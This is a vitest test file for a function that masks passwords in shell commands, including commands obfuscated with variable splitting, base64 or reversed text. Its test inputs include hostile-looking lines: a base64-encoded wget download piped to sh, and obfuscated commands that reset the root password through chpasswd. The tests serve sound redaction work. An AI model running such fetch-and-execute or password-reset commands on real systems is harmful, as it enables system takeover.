import { describe, expect, it } from 'vitest'
import { normaliseCommand } from '../../shell/normalise.js'
import { maskCommand } from './masked-command.js'

const show = (typed: string) => maskCommand(normaliseCommand(typed)).typed
const base64 = (text: string) => Buffer.from(text).toString('base64')

describe('maskCommand', () => {
  it.each([
    ['m=mysql; $m -ps3cr -e x', 'm=mysql; $m -p*** -e x'],
    ['{sshpass,-p,s3cr,ssh,x}', '{sshpass,-p,***,ssh,x}'],
    [`a=ssh;b=pass; $a$b -p s3""cr ssh x`, `a=ssh;b=pass; $a$b -p *** ssh x`],
    [`bash -c 'm=mysql; $m -ps3cr'`, `bash -c 'm=mysql; $m -p***'`],
    [`echo ${base64('m=mysql; $m -ps3cr')} | base64 -d | sh`, 'echo *** | base64 -d | sh'],
  ])('masks what only shows in plain words: %s', (typed, shown) => {
    expect(show(typed)).toBe(shown)
  })

  it('shows nothing of a line whose encoding looks like any text', () => {
    const reversed = [...'echo root:s3cr|chpasswd'].reverse().join('')
    expect(show(`echo '${reversed}' | rev | sh`)).toBe('***')
  })

  it('keeps words that are like a secret which is masked where it stands', () => {
    expect(show('echo "root:root" | chpasswd; ls /root')).toBe('echo "root:***" | chpasswd; ls /root')
    expect(show('bash -c "echo root:root | chpasswd"')).toBe('bash -c "echo root:*** | chpasswd"')
  })

  it('keeps encoded texts without secrets', () => {
    const typed = `echo ${base64('wget http://192.0.2.1/a.sh')} | base64 -d | sh`
    expect(show(typed)).toBe(typed)
  })

  it('masks every reading that it gives', () => {
    const { readings } = maskCommand(normaliseCommand(`bash -c 'm=mysql; $m -ps3cr'`))
    expect(readings.length).toBeGreaterThan(1)
    for (const { masked, original } of readings) {
      expect(original).toContain('s3cr')
      expect(masked).not.toContain('s3cr')
    }
  })
})
